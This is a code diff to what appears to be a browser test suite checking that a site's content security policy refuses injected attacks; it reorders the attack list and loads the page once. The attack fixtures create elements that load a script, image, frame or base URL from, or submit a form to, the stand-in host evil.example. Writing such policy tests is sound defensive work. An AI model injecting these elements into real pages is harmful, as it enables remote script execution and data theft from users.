@@ -49,9 +49,9 @@ const SENSITIVE = [
   ...['publickey-credentials-get', 'screen-wake-lock', 'serial', 'usb', 'xr-spatial-tracking'],
 ];
 
-/** Attacks that the content policy must stop. */
+/** Attacks that the content policy must stop. The page that only reports Trusted Types tries the other modules. */
 const ATTACKS = {
-  ...MODULES,
+  'import a module from elsewhere': MODULES['import a module from elsewhere'],
   'load a script from elsewhere': () => {
     const script = document.createElement('script');
     script.src = 'https://evil.example/x.js';
@@ -79,12 +79,6 @@ const ATTACKS = {
     frame.src = 'https://evil.example/';
     document.body.append(frame);
   },
-  'send a form away': () => {
-    const form = document.createElement('form');
-    form.action = 'https://evil.example/';
-    document.body.append(form);
-    form.submit();
-  },
   'take a picture from anywhere': () => {
     const image = document.createElement('img');
     image.src = 'https://evil.example/x.png';
@@ -94,6 +88,13 @@ const ATTACKS = {
     const base = document.createElement('base');
     base.href = 'https://evil.example/';
     document.head.append(base);
+  },
+  // The last one, because the browser waits for the next page then.
+  'send a form away': () => {
+    const form = document.createElement('form');
+    form.action = 'https://evil.example/';
+    document.body.append(form);
+    form.submit();
   },
 };
 
@@ -155,11 +156,10 @@ test('a page cannot make an attack that the content policy must stop @I1', async
   page,
   complaints,
 }) => {
+  await page.goto('/error');
+
   for (const [attack, make] of Object.entries(ATTACKS)) {
-    await test.step(attack, async () => {
-      await page.goto('/error');
-      await expectRefused(page, make, complaints);
-    });
+    await test.step(attack, () => expectRefused(page, make, complaints));
   }
 });
 
